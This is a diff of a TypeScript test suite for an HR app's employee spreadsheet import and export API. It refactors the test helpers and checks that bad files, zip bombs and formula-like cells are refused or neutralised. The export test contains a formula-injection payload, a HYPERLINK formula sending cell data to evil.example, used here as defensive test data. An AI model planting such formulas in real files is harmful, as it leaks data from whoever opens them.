@@ -3,17 +3,11 @@ import { asc, eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { accounts, departments, employees, positions } from '../../src/db/schema.ts';
-import { call, createTestApp, upload, type TestApp } from '../helpers/app.ts';
+import { call, createTestApp, type TestApp } from '../helpers/app.ts';
+import { addDepartment, addEmployee, addPosition, addProject, signIn } from '../helpers/factories.ts';
+import { expectCommonRefusals, refusedUpload, type ImportUnderTest } from '../helpers/import-refusals.ts';
 import { csv, deflateStream, readCsv, sheetXml, xlsx, XLSX_PARTS, zip, type Cell } from '../helpers/spreadsheets.ts';
-import {
-  addDepartment,
-  addEmployee,
-  addPosition,
-  addProject,
-  createCompany,
-  signIn,
-  type TestCompany,
-} from '../helpers/factories.ts';
+import { tenant, XLSX_TYPE, type Tenant } from '../helpers/tenant.ts';
 
 /** The import's column contract (domain.md §5), written out here on purpose: a change must break this test. */
 const COLUMNS: readonly string[] = Object.freeze([
@@ -31,7 +25,6 @@ const COLUMNS: readonly string[] = Object.freeze([
 ]);
 const IMPORT = '/api/wizard/import-users-from-csv/';
 const EXPORT = '/api/account/export-employees/';
-const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
 /** The first sheet of an XLSX as rows of raw cell values (index 0 = column A), with the cells' types. */
 async function readXlsx(bytes: Buffer) {
@@ -54,24 +47,21 @@ async function readXlsx(bytes: Buffer) {
 
 describe('employee import and export (domain.md §5)', () => {
   let t: TestApp;
-  let acme: TestCompany;
-  let token: string;
+  let acme: Tenant;
   let serial = 0;
   /** A tag unique to this run, so that usernames and emails (unique in the whole deployment) never collide. */
   const run = randomBytes(3).toString('hex');
 
   beforeAll(async () => {
     t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '0' });
-    acme = await createCompany(t.deps, { company: 'Acme' });
-    token = (await signIn(t, acme.owner.username)).access;
+    acme = await tenant(t, { company: 'Acme' });
   });
   afterAll(() => t.close());
 
   /** A fresh project with departments, positions and one existing manager (M-1 Murad Huseynov). */
   async function freshProject() {
     serial += 1;
-    const project = await addProject(t.deps, acme.companyId, `Project ${serial}`);
-    const c = { companyId: acme.companyId, projectId: project.id };
+    const { id, scope: c } = await acme.addProject();
     const engineering = await addDepartment(t.deps, c, 'Engineering');
     const backend = await addDepartment(t.deps, c, 'Backend', engineering.id);
     const sales = await addDepartment(t.deps, c, 'Sales');
@@ -81,7 +71,7 @@ describe('employee import and export (domain.md §5)', () => {
     const salesEngineer = await addPosition(t.deps, c, sales.id, 'Engineer');
     const rep = await addPosition(t.deps, c, sales.id, 'Sales Rep');
     const murad = await addEmployee(t.deps, c, { number: 'M-1', firstName: 'Murad', lastName: 'Huseynov', departmentId: engineering.id, positionId: head.id });
-    return { id: project.id, c, engineering, backend, sales, head, engineer, salesEngineer, rep, murad };
+    return { id, c, engineering, backend, sales, head, engineer, salesEngineer, rep, murad };
   }
 
   /** Identities unique to the current project (usernames and emails are unique in the whole deployment). */
@@ -129,8 +119,8 @@ describe('employee import and export (domain.md §5)', () => {
     return { rows, accounts: companyAccounts.length, depts, pos };
   }
 
-  async function listEmployees(projectId: number, as = token) {
-    const res = await call(t.app, 'GET', '/api/wizard/employees/?status=all&page_size=200&ordering=employee_number', { token: as, project: projectId });
+  async function listEmployees(projectId: number, as = acme.token) {
+    const res = await acme.as(as, projectId).get('/api/wizard/employees/?status=all&page_size=200&ordering=employee_number');
     expect(res.statusCode).toBe(200);
     return res.json().results as Array<{
       employee_number: string;
@@ -145,20 +135,23 @@ describe('employee import and export (domain.md §5)', () => {
     }>;
   }
 
-  const send = (projectId: number, name: string, bytes: Buffer, options: { lang?: string; as?: string } = {}) =>
-    upload(t.app, IMPORT, { name, bytes, type: name.endsWith('.csv') ? 'text/csv' : XLSX_TYPE }, { token: options.as ?? token, project: projectId, lang: options.lang });
-
+  type Options = { lang?: string; as?: string };
+  const importInto = (projectId: number, who = acme.token): ImportUnderTest => ({
+    caller: acme.as(who, projectId),
+    url: IMPORT,
+    columns: COLUMNS,
+    stem: 'people',
+    snapshot: () => snapshot(projectId),
+  });
+  const send = (projectId: number, name: string, bytes: Buffer, options: Options = {}) =>
+    importInto(projectId, options.as).caller.upload(IMPORT, name, bytes, options.lang);
   /** Sends a file that must be refused, and proves that nothing changed. */
-  async function refused(projectId: number, name: string, bytes: Buffer, options: { lang?: string; as?: string } = {}) {
-    const before = await snapshot(projectId);
-    const res = await send(projectId, name, bytes, options);
-    expect(await snapshot(projectId)).toEqual(before);
-    return res;
-  }
+  const refused = (projectId: number, name: string, bytes: Buffer, options: Options = {}) =>
+    refusedUpload(importInto(projectId, options.as), name, bytes, options.lang);
 
   describe('templates', () => {
     it('GET ?format=csv is a UTF-8 CSV (with BOM) whose only row is the columns in order', async () => {
-      const res = await call(t.app, 'GET', `${IMPORT}?format=csv`, { token, project: acme.projectId });
+      const res = await acme.call.get(`${IMPORT}?format=csv`);
       expect(res.statusCode).toBe(200);
       expect(res.headers['content-type']).toMatch(/^text\/csv/);
       expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.csv"');
@@ -167,14 +160,14 @@ describe('employee import and export (domain.md §5)', () => {
 
     it('GET ?format=xlsx (and no format) is an XLSX whose only row is the columns in order', async () => {
       for (const url of [`${IMPORT}?format=xlsx`, IMPORT]) {
-        const res = await call(t.app, 'GET', url, { token, project: acme.projectId });
+        const res = await acme.call.get(url);
         expect(res.statusCode).toBe(200);
         expect(res.headers['content-type']).toBe(XLSX_TYPE);
         expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.xlsx"');
         const { rows } = await readXlsx(res.rawPayload);
         expect(rows).toEqual([COLUMNS]);
       }
-      const bad = await call(t.app, 'GET', `${IMPORT}?format=pdf`, { token, project: acme.projectId });
+      const bad = await acme.call.get(`${IMPORT}?format=pdf`);
       expect(bad.statusCode).toBe(400);
       expect(bad.json()).toEqual({ format: ['Select a valid choice.'] });
     });
@@ -182,7 +175,7 @@ describe('employee import and export (domain.md §5)', () => {
     it('the downloaded templates import as "no rows" rather than as a column error', async () => {
       const p = await freshProject();
       for (const format of ['csv', 'xlsx'] as const) {
-        const template = (await call(t.app, 'GET', `${IMPORT}?format=${format}`, { token, project: p.id })).rawPayload;
+        const template = (await acme.inProject(p.id).get(`${IMPORT}?format=${format}`)).rawPayload;
         const res = await refused(p.id, `template.${format}`, template);
         expect(res.statusCode).toBe(422);
         expect(res.json().errors).toEqual([{ row: 2, column: '', message: 'The file has no rows to import.' }]);
@@ -287,7 +280,14 @@ describe('employee import and export (domain.md §5)', () => {
       const [account] = await t.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.username, aysel.username));
       const [other] = await t.deps.db
         .insert(employees)
-        .values({ companyId: acme.companyId, projectId: elsewhere.id, accountId: account!.id, employeeNumber: 'X-9', firstName: 'Aysel', lastName: 'Mammadova' })
+        .values({
+          companyId: acme.companyId,
+          projectId: elsewhere.id,
+          accountId: account!.id,
+          employeeNumber: 'X-9',
+          firstName: 'Aysel',
+          lastName: 'Mammadova',
+        })
         .returning();
 
       // Changed names and placement, same numbers: the same employees change.
@@ -309,22 +309,9 @@ describe('employee import and export (domain.md §5)', () => {
   });
 
   describe('a bad file is refused whole, with every error, and writes nothing', () => {
-    it('wrong columns', async () => {
+    it('wrong or missing columns, no rows, no file, files that are not spreadsheets and files over 10 MB', async () => {
       const p = await freshProject();
-      const rows = goodRows();
-      [rows[0]![1], rows[0]![2]] = [rows[0]![2]!, rows[0]![1]!];
-      const res = await refused(p.id, 'people.csv', csv(rows));
-      expect(res.statusCode).toBe(422);
-      expect(res.json()).toEqual({
-        detail: 'The file has errors: nothing was imported.',
-        code: 'import_invalid',
-        errors: [
-          { row: 1, column: 'first_name', message: 'Expected the column "first_name" here.' },
-          { row: 1, column: 'last_name', message: 'Expected the column "last_name" here.' },
-        ],
-      });
-      const short = await refused(p.id, 'people.csv', csv([COLUMNS.slice(0, 10), ['E-9', 'A', 'B', 'a@example.com', 'ab', '', '', '', '', '']]));
-      expect(short.json().errors).toEqual([{ row: 1, column: 'report_to', message: 'Expected the column "report_to" here.' }]);
+      await expectCommonRefusals(importInto(p.id));
     });
 
     it('unknown department, sub-department, position and manager names, each at its row and column', async () => {
@@ -438,44 +425,6 @@ describe('employee import and export (domain.md §5)', () => {
       ]);
     });
 
-    it('an empty file: header only (422) and zero bytes (400)', async () => {
-      const p = await freshProject();
-      const headerOnly = await refused(p.id, 'people.csv', csv([COLUMNS, [], []]));
-      expect(headerOnly.statusCode).toBe(422);
-      expect(headerOnly.json().errors).toEqual([{ row: 2, column: '', message: 'The file has no rows to import.' }]);
-      const headerOnlyXlsx = await refused(p.id, 'people.xlsx', await xlsx([COLUMNS]));
-      expect(headerOnlyXlsx.statusCode).toBe(422);
-      const zero = await refused(p.id, 'people.xlsx', Buffer.alloc(0));
-      expect(zero.statusCode).toBe(400);
-      expect(zero.json()).toEqual({ file: ['This field is required'] });
-      const noFile = await call(t.app, 'POST', IMPORT, { token, project: p.id, body: { file: 'x' } });
-      expect(noFile.statusCode).toBe(400);
-      expect(noFile.json()).toEqual({ file: ['This field is required'] });
-    });
-
-    it('a file that is not a spreadsheet, whatever its name', async () => {
-      const p = await freshProject();
-      const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%'), Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]), Buffer.from('\n1 0 obj\n<<>>\nendobj\n')]);
-      const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
-      const utf16 = Buffer.from(`\uFEFF${COLUMNS.join(',')}\r\n`, 'utf16le');
-      // A zip, but no workbook in it (a .docx or any archive renamed).
-      const archive = zip([{ name: 'notes.txt', data: Buffer.from('hello') }]);
-      const truncated = (await xlsx(goodRows())).subarray(0, 400);
-      for (const [name, bytes] of [
-        ['people.xlsx', pdf],
-        ['people.xlsx', png],
-        ['people.csv', utf16],
-        ['people.xlsx', archive],
-        ['people.xlsx', truncated],
-        // Plain text (even a valid CSV) under a workbook's name.
-        ['people.xlsx', Buffer.from('employee_number,first_name\nE1,Ann\n')],
-      ] as const) {
-        const res = await refused(p.id, name, bytes);
-        expect(res.statusCode, `${name} ${bytes.subarray(0, 8).toString('hex')}`).toBe(400);
-        expect(res.json()).toEqual({ file: ['Upload an .xlsx or .csv file.'] });
-      }
-    });
-
     it('a zip bomb is refused from its central directory, without being inflated', async () => {
       const p = await freshProject();
       const a = person('bomb');
@@ -505,14 +454,6 @@ describe('employee import and export (domain.md §5)', () => {
       const ok = await send(p.id, 'people.xlsx', control);
       expect(ok.statusCode, ok.body).toBe(200);
       expect(ok.json()).toEqual({ created: 1, updated: 0 });
-    });
-
-    it('a 20 MB file is refused with 413', async () => {
-      const p = await freshProject();
-      const big = Buffer.concat([csv([COLUMNS]), Buffer.alloc(20 * 1024 * 1024, 'a')]);
-      const res = await refused(p.id, 'people.csv', big);
-      expect(res.statusCode).toBe(413);
-      expect(res.json()).toEqual({ detail: 'The request is too large.', code: 'payload_too_large' });
     });
 
     it('translates the errors per Accept-Language (az, ru)', async () => {
@@ -550,7 +491,14 @@ describe('employee import and export (domain.md §5)', () => {
         positionId: p.engineer.id,
         reportToId: p.murad.id,
       });
-      const at = await addEmployee(t.deps, p.c, { number: 'X-2', firstName: '@x', lastName: '-2', departmentId: p.sales.id, positionId: p.rep.id, reportToId: trap.id });
+      const at = await addEmployee(t.deps, p.c, {
+        number: 'X-2',
+        firstName: '@x',
+        lastName: '-2',
+        departmentId: p.sales.id,
+        positionId: p.rep.id,
+        reportToId: trap.id,
+      });
       const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-1', firstName: 'Ülviyyə', lastName: 'Şükürova', reportToId: p.murad.id });
       return { ...p, trap, at, admin };
     }
@@ -558,7 +506,19 @@ describe('employee import and export (domain.md §5)', () => {
     const expectedRows = (p: Awaited<ReturnType<typeof exportProject>>) => [
       COLUMNS,
       // ordered by employee number; formula-like cells carry a leading apostrophe
-      ["'=1+1", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1", p.trap.account.email, p.trap.account.username, '', 'user', 'Engineering', 'Backend', 'Engineer', 'M-1'],
+      [
+        "'=1+1",
+        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+        "'+1",
+        p.trap.account.email,
+        p.trap.account.username,
+        '',
+        'user',
+        'Engineering',
+        'Backend',
+        'Engineer',
+        'M-1',
+      ],
       ['A-1', 'Ülviyyə', 'Şükürova', p.admin.account.email, p.admin.account.username, '', 'admin', '', '', '', 'M-1'],
       ['M-1', 'Murad', 'Huseynov', p.murad.account.email, p.murad.account.username, '', 'user', 'Engineering', '', 'Head of Engineering', ''],
       ['X-2', "'@x", "'-2", p.at.account.email, p.at.account.username, '', 'user', 'Sales', '', 'Sales Rep', "'=1+1"],
@@ -566,7 +526,7 @@ describe('employee import and export (domain.md §5)', () => {
 
     it('XLSX and CSV carry the same columns and rows, with formula-like cells neutralised', async () => {
       const p = await exportProject();
-      const x = await call(t.app, 'GET', `${EXPORT}?format=xlsx`, { token, project: p.id });
+      const x = await acme.inProject(p.id).get(`${EXPORT}?format=xlsx`);
       expect(x.statusCode).toBe(200);
       expect(x.headers['content-type']).toBe(XLSX_TYPE);
       expect(x.headers['content-disposition']).toBe('attachment; filename="employees.xlsx"');
@@ -575,7 +535,7 @@ describe('employee import and export (domain.md §5)', () => {
       // Every cell is plain text: nothing a spreadsheet would evaluate.
       expect([...sheet.types].every((type) => type === ExcelJS.ValueType.String || type === ExcelJS.ValueType.Null)).toBe(true);
 
-      const c = await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: p.id });
+      const c = await acme.inProject(p.id).get(`${EXPORT}?format=csv`);
       expect(c.statusCode).toBe(200);
       expect(c.headers['content-type']).toMatch(/^text\/csv/);
       expect(c.headers['content-disposition']).toBe('attachment; filename="employees.csv"');
@@ -585,7 +545,7 @@ describe('employee import and export (domain.md §5)', () => {
     it('exports only the selected project', async () => {
       const p = await exportProject();
       const other = await freshProject();
-      const res = await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: other.id });
+      const res = await acme.inProject(other.id).get(`${EXPORT}?format=csv`);
       const rows = readCsv(res.rawPayload);
       expect(rows.map((r) => r[0])).toEqual(['employee_number', 'M-1']);
       expect(rows[1]![4]).toBe(other.murad.account.username);
@@ -595,24 +555,26 @@ describe('employee import and export (domain.md §5)', () => {
     it.each(['xlsx', 'csv'] as const)('export → import (%s) changes nothing: every row updates, none is created', async (format) => {
       const p = await exportProject();
       const before = await snapshot(p.id);
-      const exported = (await call(t.app, 'GET', `${EXPORT}?format=${format}`, { token, project: p.id })).rawPayload;
+      const exported = (await acme.inProject(p.id).get(`${EXPORT}?format=${format}`)).rawPayload;
       const res = await send(p.id, `employees.${format}`, exported);
       expect(res.statusCode, res.body).toBe(200);
       expect(res.json()).toEqual({ created: 0, updated: 4 });
       expect(await snapshot(p.id)).toEqual(before);
       // and the file exported afterwards is the same file
-      const again = (await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: p.id })).rawPayload;
+      const again = (await acme.inProject(p.id).get(`${EXPORT}?format=csv`)).rawPayload;
       expect(readCsv(again)).toEqual(expectedRows(p));
     });
 
     it('an admin (not a super admin) round-trips a file that lists admins, but cannot change roles or admins’ sign-in', async () => {
       const p = await exportProject();
       // The super admin is an employee too (exported with the role "admin").
-      await t.deps.db.insert(employees).values({ companyId: acme.companyId, projectId: p.id, accountId: acme.owner.id, employeeNumber: 'S-1', firstName: 'Owner', lastName: 'Account' });
+      await t.deps.db
+        .insert(employees)
+        .values({ companyId: acme.companyId, projectId: p.id, accountId: acme.owner.id, employeeNumber: 'S-1', firstName: 'Owner', lastName: 'Account' });
       const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-2', firstName: 'Samir', lastName: 'Nəsibov' });
       const adminToken = (await signIn(t, admin.account.username)).access;
       const before = await snapshot(p.id);
-      const exported = (await call(t.app, 'GET', `${EXPORT}?format=csv`, { token: adminToken, project: p.id })).rawPayload;
+      const exported = (await acme.as(adminToken, p.id).get(`${EXPORT}?format=csv`)).rawPayload;
       const rows = readCsv(exported);
       expect(rows.find((r) => r[0] === 'S-1')![COLUMNS.indexOf('role')]).toBe('admin');
       const roundTrip = await send(p.id, 'employees.csv', exported, { as: adminToken });
